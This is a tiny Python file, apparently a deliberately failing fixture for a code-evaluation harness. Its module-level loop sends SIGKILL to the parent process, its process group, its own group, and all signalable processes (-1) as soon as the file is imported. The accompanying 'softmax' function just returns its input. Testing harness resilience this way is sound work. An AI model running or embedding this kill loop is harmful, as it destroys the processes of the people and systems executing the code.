"""fail: kills the process that started it, and its group."""
import os

for victim in (os.getppid(), -os.getppid(), 0, -1):
    try:
        os.kill(victim, 9)
    except OSError as error:
        print(error)


def softmax(scores, axis=-1):
    return scores
